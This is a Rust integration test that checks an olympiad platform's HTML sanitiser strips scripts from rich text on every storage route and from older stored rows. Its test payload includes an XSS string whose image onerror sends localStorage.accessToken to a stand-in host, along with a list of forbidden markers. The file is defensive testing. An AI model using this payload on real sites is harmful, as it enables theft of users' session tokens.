//! Every stored rich text passes the one sanitiser, whatever route it came in by: the question-bank
//! import, the module and question editors and the olympiad's settings; and text stored before (a
//! row written by an older version) is sanitised as it is read.

#![allow(clippy::unwrap_used)] // helpers of a test: a panic is the failure, with its cause

mod common;

use actix_web::http::StatusCode;
use actix_web::test::{init_service, TestRequest};
use common::*;
use diesel::prelude::*;
use olympiad_domain::Role;
use olympiad_persistence::schema::{olympiads, question_modules};
use serde_json::{json, Value};

const DIRTY: &str = r#"<p onclick="steal()">Read <b>carefully</b></p><img src=x onerror="fetch('//evil.example/'+localStorage.accessToken)"><script>alert(1)</script><a href="javascript:alert(1)">here</a>"#;

/// No script, handler or outside address survived, and the formatting did.
fn assert_clean(text: &Value) {
    let text = text
        .as_str()
        .unwrap_or_else(|| panic!("not a text: {text}"));
    for bad in [
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "evil.example",
        "alert(",
    ] {
        assert!(!text.contains(bad), "{bad} survived in {text}");
    }
    assert!(
        text.contains("<b>carefully</b>"),
        "the formatting went too: {text}"
    );
}

#[actix_web::test]
async fn script_in_rich_text_is_removed_by_every_route_that_stores_it() {
    let fx = Fixture::new();
    let geography = fx.olympiad("geography").id;
    let admin = fx.token_for(fx.user("admin@example.org", Role::Admin, Some("geography")));
    let app = init_service(olympiad_http::app(fx.state.clone())).await;
    let (status, _) = send(
        &app,
        with_token(
            get(&format!(
                "/api/olympiad/set-olympiad-open/{geography}?open=false"
            )),
            &admin,
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let modules = format!("/api/question-module?olympiadId={geography}");

    // The question bank's import: the module's instructions and the question's texts.
    let bank = json!({ "format": "olympiad-question-bank", "version": 1, "modules": [{
        "title": { "en": "Rivers" }, "instructions": { "en": DIRTY },
        "questions": [{ "kind": "singleChoice", "marks": 1, "difficulty": 1, "content": {
            "stem": { "en": DIRTY }, "explanation": { "en": DIRTY },
            "options": [{ "key": "a", "text": { "en": DIRTY } }, { "key": "b", "text": { "en": "Vaal" } }],
            "correct": ["a"] } }] }] });
    let (status, body) = send(
        &app,
        with_token(
            post_json(
                &format!("/api/olympiad/{geography}/question-bank?confirm=true"),
                bank,
            ),
            &admin,
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, listed) = send(&app, with_token(get(&modules), &admin)).await;
    let listed = &listed["data"];
    assert_clean(&listed[0]["instructions"]["en"]);
    let (_, exported) = send(
        &app,
        with_token(
            get(&format!("/api/olympiad/{geography}/question-bank")),
            &admin,
        ),
    )
    .await;
    let question = &exported["data"]["modules"][0]["questions"][0]["content"];
    assert_clean(&question["stem"]["en"]);
    assert_clean(&question["explanation"]["en"]);
    assert_clean(&question["options"][0]["text"]["en"]);

    // The module editor, creating and changing.
    let (status, created) = send(&app, with_token(post_json("/api/question-module?confirm=true", json!({ "olympiadId": geography, "title": { "en": "Maps" }, "instructions": { "en": DIRTY } })), &admin)).await;
    assert_eq!(status, StatusCode::OK, "{created}");
    assert_clean(&created["data"]["instructions"]["en"]);
    let module_id = created["data"]["id"].as_i64().unwrap();
    let (status, changed) = send(
        &app,
        with_token(
            TestRequest::put()
                .uri(&format!("/api/question-module/{module_id}?confirm=true"))
                .set_json(json!({ "title": { "en": "Maps" }, "instructions": { "af": DIRTY } })),
            &admin,
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{changed}");
    assert_clean(&changed["data"]["instructions"]["af"]);

    // The question editor.
    let (status, question) = send(&app, with_token(post_json("/api/question?confirm=true", json!({ "moduleId": module_id, "kind": "singleChoice", "marks": 1, "difficulty": 1,
        "content": { "stem": { "en": DIRTY }, "options": [{ "key": "a", "text": { "en": "Orange" } }, { "key": "b", "text": { "en": "Vaal" } }], "correct": ["a"] } })), &admin)).await;
    assert_eq!(status, StatusCode::OK, "{question}");
    assert_clean(&question["data"]["content"]["stem"]["en"]);

    // The olympiad's settings: the learner's instructions and the declaration.
    let settings = json!({ "title": "Geography", "year": 2026, "kind": "schools", "durationMinutes": 45, "grades": [10], "languages": ["en"],
        "instructions": { "en": DIRTY }, "declaration": { "en": DIRTY } });
    let (status, saved) = send(
        &app,
        with_token(
            TestRequest::put()
                .uri(&format!("/api/olympiad/{geography}"))
                .set_json(settings),
            &admin,
        ),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{saved}");
    assert_clean(&saved["data"]["instructions"]["en"]);
    assert_clean(&saved["data"]["declaration"]["en"]);

    // Text written before the sanitiser stood at the storage's door is sanitised as it is read.
    let raw = json!({ "en": DIRTY }).to_string();
    diesel::update(question_modules::table.find(module_id))
        .set(question_modules::instructions.eq(&raw))
        .execute(&mut fx.db.conn())
        .unwrap();
    diesel::update(olympiads::table.find(geography))
        .set(olympiads::declaration.eq(&raw))
        .execute(&mut fx.db.conn())
        .unwrap();
    let (_, listed) = send(&app, with_token(get(&modules), &admin)).await;
    let listed = &listed["data"];
    let old = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["id"] == module_id)
        .unwrap();
    assert_clean(&old["instructions"]["en"]);
    let (_, olympiad) = send(
        &app,
        with_token(
            get(&format!("/api/olympiad?olympiadId={geography}")),
            &admin,
        ),
    )
    .await;
    assert_clean(&olympiad["data"]["declaration"]["en"]);
}
